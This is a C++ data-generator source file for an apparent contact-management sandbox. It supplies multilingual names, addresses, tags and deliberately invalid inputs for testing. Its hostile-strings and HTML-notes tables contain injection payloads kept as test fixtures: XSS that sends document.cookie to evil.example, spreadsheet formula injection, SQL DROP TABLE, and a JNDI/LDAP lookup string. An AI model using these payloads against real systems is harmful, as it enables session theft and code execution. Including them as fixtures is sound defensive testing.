// SPDX-FileCopyrightText: ContactBridge contributors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "datagennames.h"

namespace Sandbox::DataGen {

namespace {

// QStringView tables need the literal's storage to outlive them: u"" literals are static.
constexpr Name s_firstLatin[] = {
    {u"James", u"james"},       {u"Mary", u"mary"},     {u"John", u"john"},
    {u"Patricia", u"patricia"}, {u"Robert", u"robert"}, {u"Jennifer", u"jennifer"},
    {u"Michael", u"michael"},   {u"Linda", u"linda"},   {u"David", u"david"},
    {u"Emily", u"emily"},       {u"Oliver", u"oliver"}, {u"Grace", u"grace"},
    {u"Liam", u"liam"},         {u"Chloe", u"chloe"},   {u"Noah", u"noah"},
    {u"Sophie", u"sophie"},     {u"Aidan", u"aidan"},   {u"Priya", u"priya"},
};
constexpr Name s_lastLatin[] = {
    {u"Smith", u"smith"},      {u"Johnson", u"johnson"},       {u"Williams", u"williams"},
    {u"Brown", u"brown"},      {u"Jones", u"jones"},           {u"Miller", u"miller"},
    {u"Davis", u"davis"},      {u"Wilson", u"wilson"},         {u"Taylor", u"taylor"},
    {u"O'Connor", u"oconnor"}, {u"McAllister", u"mcallister"}, {u"van der Berg", u"vanderberg"},
    {u"Nguyen", u"nguyen"},    {u"Patel", u"patel"},           {u"Clarke-Hughes", u"clarkehughes"},
};
constexpr Name s_firstDiacritic[] = {
    {u"Jürgen", u"juergen"},    {u"Zoë", u"zoe"},
    {u"François", u"francois"}, {u"Søren", u"soren"},
    {u"José", u"jose"},         {u"Łukasz", u"lukasz"},
    {u"Ágnes", u"agnes"},       {u"Björn", u"bjorn"},
    {u"Anaïs", u"anais"},       {u"Małgorzata", u"malgorzata"},
    {u"Dvořák", u"dvorak"},     {u"Çağla", u"cagla"},
    {u"Ines", u"ines"},         {u"Renée", u"renee"},
};
constexpr Name s_lastDiacritic[] = {
    {u"Müller", u"mueller"},         {u"Schröder", u"schroeder"},
    {u"Lefèvre", u"lefevre"},        {u"Núñez", u"nunez"},
    {u"Wiśniewski", u"wisniewski"},  {u"Čapek", u"capek"},
    {u"Ødegård", u"odegard"},        {u"Groß", u"gross"},
    {u"Ångström", u"angstrom"},      {u"Yılmaz", u"yilmaz"},
    {u"Þórsdóttir", u"thorsdottir"}, {u"García Márquez", u"garciamarquez"},
};
constexpr Name s_firstCyrillic[] = {
    {u"Дмитрий", u"dmitry"},      {u"Анна", u"anna"},      {u"Сергей", u"sergey"},
    {u"Ольга", u"olga"},          {u"Алексей", u"alexey"}, {u"Татьяна", u"tatiana"},
    {u"Олександр", u"oleksandr"}, {u"Марія", u"mariia"},   {u"Ёлка", u"yolka"},
};
constexpr Name s_lastCyrillic[] = {
    {u"Иванов", u"ivanov"},          {u"Смирнова", u"smirnova"},   {u"Кузнецов", u"kuznetsov"},
    {u"Попова", u"popova"},          {u"Шевченко", u"shevchenko"}, {u"Соколов", u"sokolov"},
    {u"Щербакова", u"shcherbakova"},
};
constexpr Name s_firstGreek[] = {
    {u"Γιώργος", u"giorgos"}, {u"Μαρία", u"maria"},       {u"Νίκος", u"nikos"},
    {u"Ελένη", u"eleni"},     {u"Δημήτρης", u"dimitris"}, {u"Σοφία", u"sofia"},
};
constexpr Name s_lastGreek[] = {
    {u"Παπαδόπουλος", u"papadopoulos"}, {u"Οικονόμου", u"oikonomou"}, {u"Γεωργίου", u"georgiou"},
    {u"Νικολάου", u"nikolaou"},         {u"Ιωάννου", u"ioannou"},
};
constexpr Name s_firstCjk[] = {
    {u"太郎", u"taro"}, {u"花子", u"hanako"}, {u"伟", u"wei"},      {u"秀英", u"xiuying"},
    {u"翔", u"sho"},    {u"美咲", u"misaki"}, {u"민준", u"minjun"}, {u"서연", u"seoyeon"},
};
constexpr Name s_lastCjk[] = {
    {u"山田", u"yamada"}, {u"佐藤", u"sato"},   {u"王", u"wang"}, {u"李", u"li"},
    {u"張", u"zhang"},    {u"鈴木", u"suzuki"}, {u"김", u"kim"},  {u"박", u"park"},
};
constexpr Name s_firstArabic[] = {
    {u"محمد", u"mohammed"}, {u"فاطمة", u"fatima"}, {u"أحمد", u"ahmed"},
    {u"ليلى", u"layla"},    {u"يوسف", u"youssef"}, {u"مريم", u"maryam"},
};
constexpr Name s_lastArabic[] = {
    {u"العلي", u"alali"},        {u"حداد", u"haddad"}, {u"منصور", u"mansour"},
    {u"الحسيني", u"alhusseini"}, {u"خوري", u"khoury"},
};
constexpr Name s_firstHebrew[] = {
    {u"נועה", u"noa"},      {u"יוסף", u"yosef"}, {u"תמר", u"tamar"},
    {u"אברהם", u"avraham"}, {u"שירה", u"shira"},
};
constexpr Name s_lastHebrew[] = {
    {u"כהן", u"cohen"},  {u"לוי", u"levi"},    {u"מזרחי", u"mizrahi"},
    {u"פרץ", u"peretz"}, {u"ביטון", u"biton"},
};

constexpr Place s_placesLatin[] = {
    {u"US", u"San Francisco", u"CA", u"94103", u"America/Los_Angeles", u"1 Market St"},
    {u"US", u"New York", u"NY", u"10001", u"America/New_York", u"350 5th Ave"},
    {u"US", u"Austin", u"TX", u"78701", u"America/Chicago", u"100 Congress Ave"},
    {u"GB", u"London", u"England", u"SW1A 1AA", u"Europe/London", u"10 Downing Street"},
    {u"CA", u"Toronto", u"ON", u"M5V 2T6", u"America/Toronto", u"290 Bremner Blvd"},
    {u"AU", u"Sydney", u"NSW", u"2000", u"Australia/Sydney", u"1 Macquarie St"},
    {u"IE", u"Dublin", u"", u"D02 X285", u"Europe/Dublin", u"College Green"},
};
constexpr Place s_placesDiacritic[] = {
    {u"DE", u"München", u"Bayern", u"80331", u"Europe/Berlin", u"Marienplatz 8"},
    {u"DE", u"Köln", u"Nordrhein-Westfalen", u"50667", u"Europe/Berlin", u"Domkloster 4"},
    {u"FR", u"Besançon", u"Bourgogne-Franche-Comté", u"25000", u"Europe/Paris", u"2 rue Mégevand"},
    {u"ES", u"Málaga", u"Andalucía", u"29015", u"Europe/Madrid", u"Calle Larios 5"},
    {u"PL", u"Łódź", u"łódzkie", u"90-001", u"Europe/Warsaw", u"ul. Piotrkowska 104"},
    {u"SE", u"Göteborg", u"", u"411 04", u"Europe/Stockholm", u"Kungsportsavenyen 1"},
    {u"TR", u"İstanbul", u"", u"34110", u"Europe/Istanbul", u"İstiklal Cd. 1"},
};
constexpr Place s_placesCyrillic[] = {
    {u"RU", u"Москва", u"", u"101000", u"Europe/Moscow", u"ул. Тверская, д. 1"},
    {u"UA", u"Київ", u"", u"01001", u"Europe/Kyiv", u"вул. Хрещатик, 1"},
    {u"BG", u"София", u"", u"1000", u"Europe/Sofia", u"бул. Витоша 1"},
};
constexpr Place s_placesGreek[] = {
    {u"GR", u"Αθήνα", u"Αττική", u"105 57", u"Europe/Athens", u"Οδός Ερμού 1"},
    {u"CY", u"Λευκωσία", u"", u"1010", u"Asia/Nicosia", u"Λήδρας 1"},
};
constexpr Place s_placesCjk[] = {
    {u"JP", u"東京", u"東京都", u"100-0001", u"Asia/Tokyo", u"千代田1-1"},
    {u"CN", u"上海", u"上海市", u"200000", u"Asia/Shanghai", u"南京东路1号"},
    {u"KR", u"서울", u"", u"04524", u"Asia/Seoul", u"세종대로 110"},
    {u"TW", u"臺北", u"", u"100", u"Asia/Taipei", u"忠孝東路1號"},
};
constexpr Place s_placesArabic[] = {
    {u"EG", u"القاهرة", u"", u"11511", u"Africa/Cairo", u"شارع التحرير 1"},
    {u"AE", u"دبي", u"", u"", u"Asia/Dubai", u"شارع الشيخ زايد"},
    {u"MA", u"الدار البيضاء", u"", u"20000", u"Africa/Casablanca", u"شارع محمد الخامس"},
};
constexpr Place s_placesHebrew[] = {
    {u"IL", u"תל אביב", u"", u"6100000", u"Asia/Jerusalem", u"רחוב דיזנגוף 1"},
    {u"IL", u"ירושלים", u"", u"9100000", u"Asia/Jerusalem", u"רחוב יפו 1"},
};

constexpr QStringView s_tags[] = {
    u"newsletter",   u"customer",     u"vip",     u"lead",       u"webinar-2026",
    u"Umlaut-Äpfel", u"black friday", u"partner", u"Newsletter", u"подписчик",
};
constexpr QStringView s_companies[] = {
    u"Acme Corp",        u"Globex GmbH",       u"Initech LLC",          u"Umbrella & Söhne KG",
    u"Stark Industries", u"Müller Bäckerei",   u"ООО Ромашка",          u"株式会社サンプル",
    u"Soylent, Inc.",    u"Wayne Enterprises", u"Ελληνική Εταιρεία ΑΕ", u"شركة المثال",
};
constexpr QStringView s_domains[] = {
    u"example.com", u"example.org", u"example.net", u"mail.example", u"corp.example", u"post.test",
};
constexpr QStringView s_plusTags[] = {u"news", u"ghl", u"shop", u"2026", u"list"};
constexpr QStringView s_sources[] = {
    u"website",          u"public api",        u"Paid Social", u"CSV import",
    u"form: Contact us", u"Facebook Lead Ads", u"referral",
};
constexpr QStringView s_words[] = {
    u"called",  u"customer", u"asked", u"about",    u"pricing", u"renewal", u"meeting",
    u"follow",  u"up",       u"next",  u"week",     u"invoice", u"sent",    u"demo",
    u"booked",  u"prefers",  u"email", u"discount", u"the",     u"and",     u"order",
    u"shipped", u"Größe",    u"заказ", u"確認",     u"ok",      u"spoke",   u"manager",
};
constexpr QStringView s_taskTitles[] = {
    u"Call back",     u"Send quote",          u"Follow up on invoice", u"Book onboarding",
    u"Check renewal", u"Rückruf vereinbaren", u"Отправить договор",
};
constexpr QStringView s_appointmentTitles[] = {
    u"Discovery call",
    u"Onboarding",
    u"Quarterly review",
    u"Beratungstermin",
};
constexpr QStringView s_appointmentStatuses[] = {
    u"booked", u"confirmed", u"cancelled", u"showed", u"noshow",
};
constexpr QStringView s_invalidEmails[] = {
    u"no-at-sign",
    u"a@b",
    u"x@@y.com",
    u"trailing@example.com  ",
    u" leading@example.com",
    u"two words@example.com",
    u"dot..dot@example.com",
    u"@example.com",
    u"user@",
    u"user@example..com",
    u"müller@bücher.example",
    u"mailto:x@example.com",
};
constexpr QStringView s_garbagePhones[] = {
    u"n/a",        u"call me!",          u"123",           u"+++", u"☎ 555",
    u"0000000000", u"+1 (555) CALL-NOW", u"ask reception",
};
constexpr QStringView s_hostile[] = {
    u"<script>alert(1)</script>",
    u"<img src=x onerror=alert(document.cookie)>",
    u"<b>Bold</b> &amp; <i>Co</i>",
    u"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click me\")",
    u"+cmd|' /C calc'!A0",
    u"-2+3",
    u"@SUM(1+1)*cmd|' /C calc'!A0",
    u"=1+1",
    u"Robert'); DROP TABLE contacts;--",
    u"O'Brien \"The Quote\" \\ back\\slash",
    u"${jndi:ldap://x.example/a} %s%n {0}",
    u"Tab\there\vvtab",
    u"Bell\a"
    u"Line\nBreak\r\n"
    u"\x1B"
    u"[31mred",
    u"Zero\u200Bwidth\u200Djoiner\uFEFFbom",
    u"abc\u202Efed\u202C right-to-left override",
    u"😀 Grinning 👨‍👩‍👧‍👦 family 🇩🇪 flag",
    u"Z̷̢͎a̶̰l̴̻g̵̠o̸͍",
    u"مرحبا Hello שלום 123",
    u"   ",
    u"\u00A0\u3000",
    u"\U0001D54F\U0001D560\U0001D565 (math letters)",
};
constexpr QStringView s_htmlNotes[] = {
    u"<p>Called <b>back</b>, wants the <a href=\"https://example.com/pricing\">Pro plan</a>.</p>",
    u"<ul><li>Invoice 1042</li><li>Paid &euro; 99,00</li></ul>",
    u"<div style=\"color:red\">Urgent!</div><br/><br>Second line",
    u"<p>Nested <span><em>tags <strong>deep</strong></em></span> &lt;not a tag&gt;</p>",
    u"<script>fetch('https://evil.example/?c='+document.cookie)</script>Note text",
    u"<table><tr><td>=SUM(A1:A9)</td></tr></table>",
};

template<typename T, std::size_t N>
constexpr std::span<const T> all(const T (&items)[N])
{
    return std::span<const T>(items, N);
}

} // namespace

std::span<const Name> firstNames(Script script)
{
    switch (script) {
    case Script::Latin:
        return all(s_firstLatin);
    case Script::LatinDiacritic:
        return all(s_firstDiacritic);
    case Script::Cyrillic:
        return all(s_firstCyrillic);
    case Script::Greek:
        return all(s_firstGreek);
    case Script::Cjk:
        return all(s_firstCjk);
    case Script::Arabic:
        return all(s_firstArabic);
    case Script::Hebrew:
        return all(s_firstHebrew);
    }
    return all(s_firstLatin);
}

std::span<const Name> lastNames(Script script)
{
    switch (script) {
    case Script::Latin:
        return all(s_lastLatin);
    case Script::LatinDiacritic:
        return all(s_lastDiacritic);
    case Script::Cyrillic:
        return all(s_lastCyrillic);
    case Script::Greek:
        return all(s_lastGreek);
    case Script::Cjk:
        return all(s_lastCjk);
    case Script::Arabic:
        return all(s_lastArabic);
    case Script::Hebrew:
        return all(s_lastHebrew);
    }
    return all(s_lastLatin);
}

std::span<const Place> places(Script script)
{
    switch (script) {
    case Script::Latin:
        return all(s_placesLatin);
    case Script::LatinDiacritic:
        return all(s_placesDiacritic);
    case Script::Cyrillic:
        return all(s_placesCyrillic);
    case Script::Greek:
        return all(s_placesGreek);
    case Script::Cjk:
        return all(s_placesCjk);
    case Script::Arabic:
        return all(s_placesArabic);
    case Script::Hebrew:
        return all(s_placesHebrew);
    }
    return all(s_placesLatin);
}

std::span<const QStringView> tagNames()
{
    return all(s_tags);
}
std::span<const QStringView> companies()
{
    return all(s_companies);
}
std::span<const QStringView> emailDomains()
{
    return all(s_domains);
}
std::span<const QStringView> plusTags()
{
    return all(s_plusTags);
}
std::span<const QStringView> sources()
{
    return all(s_sources);
}
std::span<const QStringView> words()
{
    return all(s_words);
}
std::span<const QStringView> taskTitles()
{
    return all(s_taskTitles);
}
std::span<const QStringView> appointmentTitles()
{
    return all(s_appointmentTitles);
}
std::span<const QStringView> appointmentStatuses()
{
    return all(s_appointmentStatuses);
}
std::span<const QStringView> invalidEmails()
{
    return all(s_invalidEmails);
}
std::span<const QStringView> garbagePhones()
{
    return all(s_garbagePhones);
}
std::span<const QStringView> hostileStrings()
{
    return all(s_hostile);
}
std::span<const QStringView> htmlNotes()
{
    return all(s_htmlNotes);
}

} // namespace Sandbox::DataGen
